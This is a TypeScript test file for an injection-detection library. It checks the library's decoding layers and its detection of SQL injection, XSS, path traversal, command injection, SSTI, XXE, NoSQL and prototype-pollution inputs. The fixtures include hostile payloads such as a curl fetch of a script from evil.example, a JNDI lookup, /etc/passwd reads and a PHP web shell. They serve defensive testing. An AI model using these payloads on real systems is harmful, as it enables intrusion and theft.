import { describe, expect, it } from "vitest";
import { escapeDecode, htmlDecode, unicodeNormalize, urlDecodeOnce, variantsOf } from "./decode.js";
import { BOOKING_BENIGN } from "./fixtures/booking-benign.js";
import { corpusInputs } from "./fixtures/corpus.js";
import { inspect } from "./inspect.js";
import { KINDS } from "./options.js";

const kinds = (text: string, options = {}) => [...new Set(inspect(text, options).map((f) => f.kind))];

describe("decoding layers", () => {
  it("URL-decodes %XX, %uXXXX and overlong UTF-8", () => {
    expect(urlDecodeOnce("%3Cscript%3E")).toBe("<script>");
    expect(urlDecodeOnce("%u003Cb%u003E")).toBe("<b>");
    expect(urlDecodeOnce("%c0%ae%c0%ae%c0%af")).toBe("../");
    expect(urlDecodeOnce("100% sure")).toBe("100% sure");
  });

  it("decodes HTML entities with and without semicolons", () => {
    expect(htmlDecode("&lt;a&#x20;href&#61;&quot;x&quot;&gt;")).toBe('<a href="x">');
    expect(htmlDecode("java&#115cript&colon;")).toBe("javascript:");
    expect(htmlDecode("Tom &amp; Jerry")).toBe("Tom & Jerry");
  });

  it("decodes JS and CSS escapes", () => {
    expect(escapeDecode("\\x3cscript\\u003e")).toBe("<script>");
    expect(escapeDecode("\\u{61}lert")).toBe("alert");
    expect(escapeDecode("ja\\vascr\\ipt")).toBe("ja\vascript".replace("\v", "v"));
    expect(escapeDecode("\\3c svg")).toBe("<svg");
  });

  it("applies NFKC and strips NUL and zero-width characters", () => {
    expect(unicodeNormalize("＜script＞")).toBe("<script>");
    expect(unicodeNormalize("sel\u200bect\u0000")).toBe("select");
    expect(unicodeNormalize("\u2216..\u2215")).toBe("\\../");
  });

  it("stops URL decoding after three rounds", () => {
    const variants = variantsOf("%2525252541");
    expect(
      variants
        .filter((v) => v.decodings.includes("url"))
        .at(-1)
        ?.decodings.filter((d) => d === "url").length,
    ).toBe(4);
    expect(variants.some((v) => v.text === "A")).toBe(false);
  });

  it("reports the chain of decodings that exposed a finding", () => {
    const [finding] = inspect("%253Cscript%253Ealert(1)%253C/script%253E");
    expect(finding?.kind).toBe("xss");
    expect(finding?.decodings).toEqual(["url", "url"]);
    expect(inspect("&#x3C;script&#x3E;")[0]?.decodings).toEqual(["html-entity"]);
    expect(inspect("c''at /etc/passwd;w'h'o'am'i").some((f) => f.decodings.includes("shell-quote"))).toBe(true);
  });
});

describe("inspect()", () => {
  it.each([
    ["sqli", "1' or '1'='1"],
    ["sqli", "admin'--"],
    ["sqli", "-1 union select 1,2,version()--"],
    ["sqli", "1; drop table users"],
    ["sqli", "1 and sleep(5)"],
    ["sqli", "' /*!50000union*/ /*!50000select*/ password from users"],
    ["xss", "<script>alert(1)</script>"],
    ["xss", '<img src=x onerror="alert(1)">'],
    ["xss", '" onmouseover="alert(document.cookie)'],
    ["xss", "javascript:alert(1)"],
    ["xss", "＜svg onload=alert(1)＞"],
    ["path-traversal", "../../../etc/passwd"],
    ["path-traversal", "..%252f..%252f..%252fetc%252fpasswd"],
    ["path-traversal", "..\\..\\windows\\win.ini"],
    ["command-injection", "; cat /etc/passwd"],
    ["command-injection", "| whoami"],
    ["command-injection", "$(curl http://evil.example/x.sh)"],
    ["command-injection", "a;c\\at$\u007bIFS}/etc/passwd"],
    ["nosql", '{"$where": "sleep(100)"}'],
    ["nosql", "[$ne]=1"],
    ["prototype-pollution", "__proto__[isAdmin]=true"],
    ["crlf-injection", "x\r\nSet-Cookie: session=evil"],
    ["ssti", "{{7*7}}"],
    ["ssti", "$\u007bT(java.lang.Runtime).getRuntime().exec('id')}"],
    ["ldap-injection", "*)(uid=*))(|(uid=*"],
    ["xxe", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
    ["code-injection", "$\u007bjndi:ldap://evil.example/a}"],
  ])("detects %s in %j", (kind, text) => {
    expect(kinds(text)).toContain(kind);
  });

  it.each([
    "O'Brien",
    "select a time; drop by at 5",
    "Union Street; select whoever is free",
    "I <3 this place",
    "Price: $25 (or €30)",
    "../images/photo.png is fine",
    "Please find the cat; it's outside",
    "rock 'n' roll",
    "Is this your parents' or yours?",
    "Tom & Jerry",
    "We should delete nine",
    "javascript: the good parts",
  ])("does not flag %j at the default level", (text) => {
    expect(inspect(text)).toEqual([]);
  });

  it("flags none of the booking-platform benign fixture at paranoia level 1", () => {
    expect(BOOKING_BENIGN.filter((text) => inspect(text).length > 0)).toEqual([]);
  });

  it("never fires on a keyword alone", () => {
    for (const word of ["select", "union", "drop", "script", "alert", "passwd", "whoami", "constructor", "sleep"]) {
      expect(inspect(word)).toEqual([]);
    }
  });

  it("reports stricter rules only at higher paranoia levels", () => {
    expect(inspect("../photo.png")).toEqual([]);
    expect(inspect("../photo.png", { paranoiaLevel: 2 })[0]).toMatchObject({
      kind: "path-traversal",
      paranoiaLevel: 2,
    });
  });

  it("checks keys with the key rules", () => {
    expect(kinds("$where", { key: true })).toEqual(["nosql"]);
    expect(kinds("__proto__", { key: true })).toContain("prototype-pollution");
    expect(kinds("$where")).toEqual([]);
  });

  it("limits kinds", () => {
    expect(kinds("<script>alert(1)</script>; cat /etc/passwd", { kinds: ["command-injection"] })).toEqual([
      "command-injection",
    ]);
  });

  it("is deterministic and gives a truncated fragment", () => {
    const text = `1' or '1'='1${"x".repeat(500)}`;
    expect(inspect(text)).toEqual(inspect(text));
    expect(inspect(text)[0]!.fragment.length).toBeLessThanOrEqual(81);
    expect(inspect(text)[0]).toMatchObject({ kind: "sqli", rule: expect.stringMatching(/^sqli\./), paranoiaLevel: 1 });
  });

  it("throws on unknown options with a suggestion", () => {
    expect(() => inspect("x", { paranoialevel: 2 } as never)).toThrow(
      "inspect: unknown option `paranoialevel`. Did you mean `paranoiaLevel`?",
    );
    expect(() => inspect("x", { paranoiaLevel: 5 as never })).toThrow(
      "inspect: option `paranoiaLevel` must be one of 1, 2, 3, 4, got 5.",
    );
  });
});

describe("the kinds option", () => {
  // At least one payload of each kind, so the check holds without the corpus too.
  const payloads = [
    "1' or '1'='1",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "; cat /etc/passwd",
    '{"$where": "sleep(100)"}',
    "[$ne]=1",
    "__proto__[admin]=1",
    "x\r\nSet-Cookie: a=b",
    "{{7*7}}",
    "*)(uid=*))(|(uid=*",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "<?php system($_GET['c']); ?>",
    "$\u007bjndi:ldap://x/a}",
  ];

  // Families that report none of the asked kinds are skipped: that must never lose a finding.
  it("finds with one kind exactly the findings of that kind among all kinds", () => {
    const wrong: string[] = [];
    const found = new Set<string>();
    for (const text of [...payloads, ...corpusInputs(), ...BOOKING_BENIGN]) {
      const all = inspect(text, { paranoiaLevel: 4 });
      for (const kind of KINDS) {
        const expected = all.filter((finding) => finding.kind === kind);
        if (expected.length > 0) found.add(kind);
        const narrowed = inspect(text, { paranoiaLevel: 4, kinds: [kind] });
        if (JSON.stringify(narrowed) !== JSON.stringify(expected)) wrong.push(`${kind} ${JSON.stringify(text)}`);
      }
    }
    expect(wrong).toEqual([]);
    expect([...found].sort()).toEqual([...KINDS].sort());
  });
});
